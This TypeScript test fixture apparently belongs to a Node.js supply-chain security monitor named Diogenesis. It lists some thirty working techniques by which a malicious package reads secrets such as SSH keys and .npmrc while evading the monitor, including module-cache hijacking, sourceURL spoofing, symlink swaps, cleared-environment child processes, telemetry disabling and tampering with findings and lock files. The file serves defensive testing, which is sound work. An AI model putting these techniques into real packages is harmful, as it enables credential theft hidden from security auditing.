import { techniques } from '../technique.ts';

const fs = `const fs = require('node:fs');`;
const Module = `const Module = require('node:module');`;
const STEAL = `prove(process.getBuiltinModule('fs').readFileSync(SECRET, 'utf8'))`;
const LATER = `setTimeout(() => ${STEAL.replace('prove', 'globalThis.evil.prove').replace('SECRET', 'globalThis.evil.SECRET')}, 1)`;
const PREPARE = `globalThis.evil = { prove, SECRET }; const lazy = APP + '/node_modules/innocent/lazy.js';`;
const LAZY = { 'node_modules/innocent/lazy.js': 'exports.lazy = true;' };

/** By somebody who has read the source of Diogenesis. */
export const INSIDER = techniques('own', [
  {
    name: 'path-during-load',
    deed: 'read',
    says: "a replaced path.dirname compiles its own text while the innocent package's file is being loaded",
    files: LAZY,
    evil: `${Module} const path = require('node:path'); exports.run = () => { ${PREPARE}
      const { dirname } = path;
      path.dirname = (file) => {
        const module = Module._cache[lazy];
        if (file === lazy && module !== undefined) { path.dirname = dirname; module._compile(${JSON.stringify(LATER)}, lazy); }
        return dirname(file);
      };
      require('innocent/lazy.js');
    };`,
  },
  {
    name: 'children-during-load',
    deed: 'read',
    says: 'the same from a getter for the children of the requiring module',
    files: LAZY,
    evil: `${Module} exports.run = () => { ${PREPARE}
      let done = false;
      const children = [];
      Object.defineProperty(module, 'children', { configurable: true, get() {
        if (!done) { done = true; const fake = new Module(lazy); Module._cache[lazy] = fake; fake._compile(${JSON.stringify(LATER)}, lazy); delete Module._cache[lazy]; }
        return children;
      } });
      require('innocent/lazy.js');
    };`,
  },
  {
    name: 'setter-during-load',
    deed: 'read',
    says: 'the same from a setter that the constructor of modules meets',
    files: LAZY,
    evil: `${Module} exports.run = () => { ${PREPARE}
      let done = false;
      Object.defineProperty(Module.prototype, 'loaded', { configurable: true, set(value) {
        if (!done) { done = true; Module._cache[lazy] = this; this._compile(${JSON.stringify(LATER)}, lazy); delete Module._cache[lazy]; }
        Object.defineProperty(this, 'loaded', { value, writable: true, configurable: true, enumerable: true });
      } });
      require('innocent/lazy.js');
      delete Module.prototype.loaded;
    };`,
  },
  {
    name: 'parent-during-load',
    deed: 'read',
    says: "the loader is called with a parent whose getter resolves and compiles in the innocent package's name",
    files: LAZY,
    evil: `${Module} exports.run = () => { ${PREPARE}
      let done = false;
      const parent = { id: __filename, filename: __filename, paths: module.paths, children: [], get path() {
        if (!done) {
          done = true;
          Module._resolveFilename(lazy, module, false);
          const fake = new Module(lazy); Module._cache[lazy] = fake; fake._compile(${JSON.stringify(LATER)}, lazy); delete Module._cache[lazy];
        }
        return __dirname;
      } };
      Module._load('innocent/lazy.js', parent, false);
    };`,
  },
  {
    name: 'load-hook-in-place',
    deed: 'read',
    says: "a load hook overwrites the bytes of the innocent package's source in place",
    files: { 'node_modules/innocent/lazy.mjs': `export const lazy = true;\n//${' '.repeat(400)}\n` },
    app: `const evil = require('evil'); evil.run(); import('innocent/lazy.mjs');`,
    evil: `${Module} exports.run = () => { ${PREPARE}
      Module.registerHooks({ load(url, context, next) {
        const result = next(url, context);
        if (url.endsWith('lazy.mjs')) { result.source.fill(32); result.source.set(Buffer.from(${JSON.stringify(LATER)})); }
        return result;
      } });
    };`,
  },
  {
    name: 'borrowed-import-parent',
    deed: 'read',
    says: "text compiled under the innocent package's name imports a data: URL",
    evil: `const vm = require('node:vm'); exports.run = () => { ${PREPARE}
      const code = 'data:text/javascript,' + encodeURIComponent(${JSON.stringify(LATER)});
      new vm.Script('import(' + JSON.stringify(code) + ')', { filename: APP + '/node_modules/innocent/index.js', importModuleDynamically: vm.constants.USE_MAIN_CONTEXT_DEFAULT_LOADER }).runInThisContext();
    };`,
  },
  {
    name: 'source-url-tracer',
    deed: 'read',
    says: "acts inside its own tracer, in text that calls itself one of OpenTelemetry's files",
    evil: `${fs} exports.run = () => {
      const api = require('@opentelemetry/api');
      const act = new Function('fs', 'SECRET', 'LOOT', 'fs.copyFileSync(SECRET, LOOT)\\n//# sourceURL=' + APP + '/node_modules/@opentelemetry/sdk-trace-base/build/src/Tracer.js');
      const make = new Function('act', 'noop', 'let done = false; return function startSpan() { if (!done) { done = true; act(); } return noop; }\\n//# sourceURL=' + APP + '/node_modules/@opentelemetry/sdk-trace-base/build/src/Tracer.js');
      const span = { spanContext: () => ({ traceId: '0'.repeat(31) + '1', spanId: '0'.repeat(15) + '1', traceFlags: 0 }), isRecording: () => false };
      const noop = new Proxy(span, { get: (t, k) => t[k] ?? (() => noop) });
      api.trace.setGlobalTracerProvider({ getTracer: () => ({ startSpan: make(act.bind(null, fs, SECRET, LOOT), noop) }) });
      fs.writeFileSync(HOME + '/note.txt', 'anything new');
    };`,
  },
  {
    name: 'source-url-main',
    deed: 'read',
    says: 'new Function that calls itself [eval]',
    evil: `exports.run = () => { new Function('SECRET', 'prove', ${JSON.stringify(`setTimeout(() => ${STEAL}, 1)`)} + '\\n//# sourceURL=[eval]')(SECRET, prove); };`,
  },
  {
    name: 'reflect-apply-later',
    deed: 'read',
    says: 'setTimeout(Reflect.apply, …, fs.copyFileSync, …)',
    evil: `${fs} exports.run = () => { setTimeout(Reflect.apply, 1, fs.copyFileSync, fs, [SECRET, LOOT]); };`,
  },
  {
    name: 'reflect-apply-bound',
    deed: 'read',
    says: 'queueMicrotask of Reflect.apply bound to fs.copyFileSync',
    evil: `${fs} exports.run = () => { queueMicrotask(Reflect.apply.bind(null, fs.copyFileSync, fs, [SECRET, LOOT])); };`,
  },
  {
    name: 'reduce-later',
    deed: 'read',
    says: 'a timer calls Array.prototype.reduce, bound to two paths and a file function',
    evil: `${fs} exports.run = () => { setTimeout([].reduce.bind([SECRET, LOOT], fs.copyFileSync), 1); };`,
  },
  {
    name: 'reflect-apply-nested',
    deed: 'read',
    says: 'a timer calls Reflect.apply with Reflect.apply, and the file function in an array',
    evil: `${fs} exports.run = () => { setTimeout(Reflect.apply, 1, Reflect.apply, null, [fs.copyFileSync, fs, [SECRET, LOOT]]); };`,
  },
  {
    name: 'rename-over-habit',
    deed: 'read',
    says: 'the folder of a habituated file is exchanged for a link',
    evil: `${fs} exports.run = () => {
      const folder = APP + '/data';
      fs.mkdirSync(folder); fs.writeFileSync(folder + '/.npmrc', 'x');
      for (let i = 0; i < 17; i++) fs.readFileSync(folder + '/.npmrc', 'utf8');
      fs.symlinkSync(HOME, APP + '/other'); fs.renameSync(folder, APP + '/old'); fs.renameSync(APP + '/other', folder);
      prove(fs.readFileSync(folder + '/.npmrc', 'utf8'));
    };`,
  },
  {
    name: 'rename-over-habit-plain',
    deed: 'read',
    says: 'the folder of a habituated file of an innocuous name is exchanged for a link to the folder of keys',
    evil: `${fs} exports.run = () => {
      const folder = APP + '/data';
      fs.mkdirSync(folder); fs.writeFileSync(folder + '/id_rsa', 'x'); fs.writeFileSync(folder + '/id_ed25519', 'x');
      for (let i = 0; i < 17; i++) fs.readFileSync(folder + '/id_ed25519', 'utf8');
      fs.rmSync(folder, { recursive: true }); fs.symlinkSync(HOME + '/.ssh', folder);
      prove(fs.readFileSync(folder + '/id_ed25519', 'utf8'));
    };`,
  },
  {
    name: 'renamed-into-innocent',
    deed: 'read',
    says: "moves a folder of its own into the innocent package's",
    files: {
      'node_modules/evil/payload/index.js': `setTimeout(() => globalThis.evil.prove(require('node:fs').readFileSync(globalThis.evil.SECRET, 'utf8')), 1);`,
    },
    evil: `${fs} exports.run = () => { ${PREPARE} fs.renameSync(__dirname + '/payload', APP + '/node_modules/innocent/lib'); require(APP + '/node_modules/innocent/lib/index.js'); };`,
  },
  {
    name: 'copied-into-innocent',
    deed: 'read',
    says: "copies a folder of its own into the innocent package's",
    files: {
      'node_modules/evil/payload/index.js': `setTimeout(() => globalThis.evil.prove(require('node:fs').readFileSync(globalThis.evil.SECRET, 'utf8')), 1);`,
    },
    evil: `${fs} exports.run = () => { ${PREPARE} fs.cpSync(__dirname + '/payload', APP + '/node_modules/innocent/lib', { recursive: true }); require(APP + '/node_modules/innocent/lib/index.js'); };`,
  },
  {
    name: 'streamed-into-innocent',
    deed: 'read',
    says: "appends to the innocent package's file before it is loaded, through a descriptor",
    files: LAZY,
    evil: `${fs} exports.run = () => { ${PREPARE} const fd = fs.openSync(lazy, 'r+'); fs.writeSync(fd, ${JSON.stringify(LATER)}, 0); fs.closeSync(fd); require('innocent/lazy.js'); };`,
  },
  {
    name: 'child-own-config',
    way: /^process\.spawn/,
    limit: 'a child reads its own configuration, as every workspace of a monorepo does; that it was started is told',
    deed: 'read',
    says: 'a child whose working directory has a configuration that switches Diogenesis off',
    files: {
      'own/diogenesis.config.json': '{"mode":"off"}',
      'own/package.json': '{"name":"own","version":"1.0.0"}',
      'own/act.js': `require('node:fs').copyFileSync(process.argv[2], process.argv[3]);`,
    },
    evil: `exports.run = () => { require('node:child_process').spawn(process.execPath, ['act.js', SECRET, LOOT], { cwd: APP + '/own', stdio: 'inherit' }); };`,
  },
  {
    name: 'child-own-root',
    way: /^process\.spawn/,
    limit: 'a child reads its own configuration, as every workspace of a monorepo does; that it was started is told',
    deed: 'read',
    says: 'a child whose environment names another application and another lock file',
    files: {
      'own/package.json': '{"name":"own","version":"1.0.0"}',
      'own/act.js': `require('node:fs').copyFileSync(process.argv[2], process.argv[3]);`,
    },
    evil: `exports.run = () => { require('node:child_process').spawn(process.execPath, ['act.js', SECRET, LOOT], { cwd: APP + '/own', stdio: 'inherit', env: { ...process.env, DIOGENESIS_ROOT: APP + '/own', DIOGENESIS_LOCK: APP + '/own/none.json', DIOGENESIS_FINDINGS: APP + '/own/findings.jsonl' } }); };`,
  },
  {
    name: 'child-env-program',
    deed: 'read',
    says: 'env -i starts Node with an empty environment',
    evil: `exports.run = () => { require('node:child_process').spawn('env', ['-i', process.execPath, '-e', 'require("node:fs").copyFileSync(process.argv[1], process.argv[2])', SECRET, LOOT], { stdio: 'inherit' }); };`,
    way: /^process\.spawn/,
  },
  {
    name: 'child-by-innocent-worker',
    deed: 'read',
    says: 'a worker made from text, with a clean environment, starts another one',
    evil: `exports.run = () => { const { Worker } = require('node:worker_threads'); new Worker("const { Worker, workerData } = require('node:worker_threads'); new Worker(\\"require('node:fs').copyFileSync(...require('node:worker_threads').workerData)\\", { eval: true, workerData, env: {}, execArgv: [] })", { eval: true, workerData: [SECRET, LOOT], env: {}, execArgv: [] }); };`,
    way: /^worker\./,
  },
  {
    name: 'descriptors-exhausted',
    deed: 'read',
    says: 'leaves no descriptor for the findings file, and reads the secret through the last one',
    evil: `${fs} exports.run = () => {
      const held = [];
      try { for (;;) held.push(fs.openSync('/dev/null', 'r')); } catch {}
      fs.closeSync(held.pop());
      try { prove(fs.readFileSync(SECRET, 'utf8')); } finally { for (const fd of held) fs.closeSync(fd); }
    };`,
  },
  {
    name: 'telemetry-disabled',
    deed: 'read',
    says: 'switches every OpenTelemetry provider off before it acts',
    evil: `${fs} exports.run = () => {
      const api = require('@opentelemetry/api');
      for (const part of [api.trace, api.metrics, api.context, api.propagation, api.diag, api.logs]) part?.disable?.();
      delete globalThis[Symbol.for('opentelemetry.js.api.1')]; delete globalThis[Symbol.for('io.opentelemetry.js.api.logs')];
      fs.copyFileSync(SECRET, LOOT);
    };`,
  },
  {
    name: 'finding-in-another-name',
    deed: 'tamper',
    says: 'writes a finding against the innocent package into the findings file',
    evil: `${fs} exports.run = () => { fs.appendFileSync(process.env.DIOGENESIS_FINDINGS, JSON.stringify({ id: 'x', time: new Date(), level: 'LOG', pattern: 'data_exfiltration', package: { name: 'innocent', version: '2.3.4' }, chain: [], trait: 'x' }) + '\\n'); prove(TOKEN); };`,
  },
  {
    name: 'lock-through-link',
    deed: 'tamper',
    says: 'writes the lock file through a link of another name',
    evil: `${fs} exports.run = () => { fs.symlinkSync(process.env.DIOGENESIS_LOCK, APP + '/notes.txt'); fs.writeFileSync(APP + '/notes.txt', '{"lockfileVersion":1,"packages":{},"tools":{}}\\n'); prove(TOKEN); };`,
  },
  {
    name: 'lock-renamed-over',
    deed: 'tamper',
    says: 'moves a file of its own over the lock file',
    evil: `${fs} exports.run = () => { fs.writeFileSync(APP + '/x.json', '{"lockfileVersion":1,"packages":{},"tools":{}}\\n'); fs.renameSync(APP + '/x.json', process.env.DIOGENESIS_LOCK); prove(TOKEN); };`,
  },
  {
    name: 'wrapper-put-back',
    deed: 'read',
    says: "replaces fs.copyFileSync by a child context's, an unwrapped one from a snapshot of process.binding, through defineProperty",
    way: /binding|diogenesis\./,
    evil: `${fs} exports.run = () => {
      const { copyFile } = process.binding('fs');
      Object.defineProperty(fs, 'copyFileSync', { configurable: true, writable: true, value: (a, b) => copyFile(a, b, 0) });
      fs.copyFileSync(SECRET, LOOT);
    };`,
  },
  {
    name: 'shadow-realm-context',
    deed: 'read',
    says: 'a function of another context calls the file function in a timer of the innocent package',
    evil: `${fs} const vm = require('node:vm'); exports.run = (innocent) => {
      const call = vm.runInNewContext('(fn, a, b) => fn(a, b)');
      innocent.later(call, fs.copyFileSync, SECRET, LOOT);
    };`,
  },
  {
    name: 'async-iterator-innocent',
    deed: 'read',
    says: 'an object of its own is awaited by the innocent package',
    files: {
      'node_modules/innocent/wait.js':
        'module.exports = async (value) => { const result = await value; return result; };',
    },
    evil: `${fs} exports.run = () => { require('innocent/wait.js')({ then: fs.copyFile.bind(fs, SECRET, LOOT) }).catch(() => {}); setTimeout(() => {}, 50); };`,
  },
]);
